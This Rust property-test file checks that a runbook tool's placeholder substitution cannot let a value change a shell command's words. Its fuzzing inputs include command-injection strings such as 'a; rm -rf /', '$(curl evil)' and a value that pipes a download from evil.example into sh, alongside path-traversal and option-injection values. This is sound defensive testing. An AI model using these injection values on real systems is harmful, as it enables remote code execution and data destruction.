//! No value a link, a form or saved data can hold changes a command's words: whatever is
//! accepted for a placeholder becomes part of the one word the placeholder stood in, never
//! a new word, an operator, an option or a way out of a path. Over every command of the
//! team's runbook and of hostile runbooks, for arbitrary values.

mod common;

use std::sync::OnceLock;

use common::team_runbook_source;
use document::Block;
use proptest::prelude::*;
use runbook::values::substitute;
use runbook::variables::{pieces, Piece};
use runbook::{parse, Runbook};

/// Commands written to tempt a value into breaking out.
const HOSTILE_RUNBOOK: &str = "# Hostile\n\n## Steps\n\n```bash\n\
ssh admin@EC2_HOST 'sudo systemctl restart api'\n\
sudo rm -rf /var/cache/app/<cache-dir>\n\
curl -s \"http://DB_HOST:DB_PORT/health?x=1\" | jq .status\n\
git checkout <commit-hash> && make deploy\n\
echo EC2_HOST>API_HOST; scp file LIGHTSAIL_HOST:/tmp/\n\
kubectl -n <namespace> delete pod <pod-name> --grace-period=0\n\
```\n";

/// A command as the shell would split it: words (each the placeholder's or not) and operators.
fn shape(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut word = String::new();
    for c in command.chars() {
        if c.is_whitespace() || ";|&<>()$`'\"\\*?{}!#~=".contains(c) {
            if !word.is_empty() {
                out.push(std::mem::take(&mut word));
            }
            if !c.is_whitespace() {
                out.push(c.to_string());
            }
        } else {
            word.push(c);
        }
    }
    if !word.is_empty() {
        out.push(word);
    }
    out
}

/// Every code block of `blocks`, lists and quotes included.
fn code_blocks(blocks: &[Block], out: &mut Vec<String>) {
    for block in blocks {
        match block {
            Block::Code(code) => out.push(code.code.clone()),
            Block::List(list) => list.items.iter().for_each(|item| code_blocks(&item.blocks, out)),
            Block::Quote(quote) => code_blocks(&quote.blocks, out),
            _ => {}
        }
    }
}

/// Every command of `runbook` twice: each placeholder as one plain word `W`, and each given
/// `value` by `substitute` (a placeholder it leaves as written is the word `W` again).
fn commands_with(runbook: &Runbook, value: &str) -> Vec<(String, String)> {
    let mut codes = Vec::new();
    code_blocks(&runbook.blocks, &mut codes);
    let vars = &runbook.variables;
    codes
        .into_iter()
        .map(|code| {
            let (mut plain, mut filled) = (String::new(), String::new());
            for piece in pieces(&code, vars, &runbook.secrets) {
                match piece {
                    Piece::Variable { written, .. } => {
                        plain.push('W');
                        let used = substitute(written, vars, &|_| Some(value.to_string()));
                        filled.push_str(if used == written { "W" } else { &used });
                    }
                    Piece::Text(text) | Piece::Secret { written: text, .. } => {
                        plain.push_str(text);
                        filled.push_str(text);
                    }
                }
            }
            (plain, filled)
        })
        .collect()
}

fn check_value_keeps_words(runbook: &Runbook, value: &str) -> Result<(), TestCaseError> {
    for (written, filled) in commands_with(runbook, value) {
        let (before, after) = (shape(&written), shape(&filled));
        prop_assert_eq!(before.len(), after.len(), "words changed: {:?} → {:?}", written, filled);
        for (was, now) in before.iter().zip(&after) {
            if was != now {
                prop_assert!(!now.starts_with('-') || was.starts_with('-'), "a value made an option: {:?}", filled);
                prop_assert!(!now.split('/').any(|s| s == ".."), "a value left its folder: {:?}", filled);
            }
        }
    }
    Ok(())
}

fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-zA-Z0-9._:/@\\[\\]-]{1,40}",
        "[ -~]{1,40}",
        Just("../..".to_string()),
        Just("--no-preserve-root".to_string()),
        Just("a; rm -rf /".to_string()),
        Just("$(curl evil)".to_string()),
        Just("10.0.12.7:1/ >/dev/null; curl -s https://evil.example/x | sh".to_string()),
        Just("é→├──🔥\u{202e}".to_string()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn no_value_changes_the_words_of_a_command_of_the_team_runbook(value in hostile_text()) {
        static TEAM: OnceLock<Runbook> = OnceLock::new();
        let runbook = TEAM.get_or_init(|| parse("incident-response.md", team_runbook_source()));
        check_value_keeps_words(runbook, &value)?;
    }

    #[test]
    fn no_value_changes_the_words_of_a_command_written_to_tempt_it(value in hostile_text()) {
        static HOSTILE: OnceLock<Runbook> = OnceLock::new();
        let runbook = HOSTILE.get_or_init(|| parse("hostile.md", HOSTILE_RUNBOOK));
        check_value_keeps_words(runbook, &value)?;
    }
}

#[test]
fn the_hostile_runbook_has_the_placeholders_it_tempts() {
    let runbook = parse("hostile.md", HOSTILE_RUNBOOK);
    let names: Vec<&str> = runbook.variables.iter().map(|v| v.name.as_str()).collect();
    for expected in ["EC2_HOST", "cache-dir", "DB_HOST", "DB_PORT", "commit-hash", "LIGHTSAIL_HOST"] {
        assert!(names.contains(&expected), "{expected} in {names:?}");
    }
    let mut codes = Vec::new();
    code_blocks(&runbook.blocks, &mut codes);
    assert_eq!(codes.len(), 1);
}
